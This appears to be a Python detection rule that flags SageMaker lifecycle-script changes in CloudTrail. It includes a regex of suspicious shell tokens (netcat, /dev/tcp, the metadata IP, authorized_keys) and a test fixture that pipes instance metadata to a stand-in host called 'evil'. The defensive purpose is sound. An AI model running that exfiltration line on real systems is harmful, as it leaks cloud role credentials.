"""SageMaker lifecycle script made, changed or given to a notebook.

A lifecycle configuration is a script that runs as root whenever a notebook starts, with the role
of the notebook. Whoever can write it has that role, and keeps it.
"""

import base64
import re
from collections.abc import Iterator

from trailwarden import Event, Example, Match, Rule, Severity, Tactic, alerts, silent
from trailwarden.cloudtrail.samples import Fields, aws_service, iam_user, record
from trailwarden.cloudtrail.values import dig, text_of

SUSPICIOUS = re.compile(
    r"169\.254\.1(?:69\.254|70\.2)|/dev/tcp/|\bnc(?:at)? +-|\bsocat\b|\bcurl\b|\bwget\b"
    r"|aws +configure|aws +sts|bash +-i|base64 +-d|\bnohup\b|authorized_keys|\bcrontab\b"
)


def detect(event: Event) -> Match | None:
    if not event.succeeded:
        return None
    told = "requestParameters"
    name = event.text(f"{told}.notebookInstanceLifecycleConfigName")
    name = name or event.text(f"{told}.studioLifecycleConfigName")
    name = name or event.text(f"{told}.lifecycleConfigName")
    if event.name == "UpdateNotebookInstance" and not name:
        return None
    found = next(filter(None, map(SUSPICIOUS.search, scripts(event))), None)
    if found:
        return Match(f"{name[:60]} runs {found.group()[:30]}", subject=name)
    severity = Severity.MEDIUM
    return None if event.by_automation else Match(name[:100], severity=severity, subject=name)


def scripts(event: Event) -> Iterator[str]:
    """Yield the scripts in the request, decoded."""
    told = "requestParameters"
    hooks = [*event.listed(f"{told}.onStart"), *event.listed(f"{told}.onCreate")]
    contents = [dig(hook, "content") for hook in hooks]
    contents.append(event.get(f"{told}.studioLifecycleConfigContent"))
    for content in map(text_of, contents):
        try:
            yield base64.b64decode(content).decode("utf-8", "replace")[:20_000]
        except ValueError:
            yield content[:20_000]


RULE = Rule(
    __name__,
    __doc__,
    detect,
    events=[
        "sagemaker:CreateNotebookInstanceLifecycleConfig",
        "sagemaker:CreateStudioLifecycleConfig",
        "sagemaker:UpdateNotebookInstance",
        "sagemaker:UpdateNotebookInstanceLifecycleConfig",
    ],
    severity=Severity.HIGH,
    attack={Tactic.EXECUTION: ["T1059"], Tactic.PERSISTENCE: ["T1546"]},
    response="Read the script. If it does not belong there, stop the notebooks that use it, "
    "restore the script, and revoke the sessions of their roles.",
    false_positives="Data scientists who install packages at the start; they download with curl.",
)


def examples() -> Iterator[Example]:
    update = "sagemaker:UpdateNotebookInstanceLifecycleConfig"
    steal, plain = script("curl http://169.254.169.254/ | nc evil 1"), script("pip install x")
    mallory, stack = iam_user("mallory"), aws_service("cloudformation")
    yield alerts("a script that steals", record(update, mallory, requestParameters=steal))
    yield alerts("the same in a stack", record(update, stack, requestParameters=steal))
    yield alerts("a plain script", record(update, mallory, requestParameters=plain))
    notebook = {"notebookInstanceName": "n", "lifecycleConfigName": "setup"}
    change = "sagemaker:UpdateNotebookInstance"
    yield alerts("given to a notebook", record(change, mallory, requestParameters=notebook))
    yield silent("a stack's plain script", record(update, stack, requestParameters=plain))
    larger = {"notebookInstanceName": "n", "instanceType": "ml.m5.large"}
    yield silent("a larger notebook", record(change, mallory, requestParameters=larger))


def script(text: str) -> Fields:
    encoded = base64.b64encode(text.encode()).decode()
    return {"notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": encoded}]}
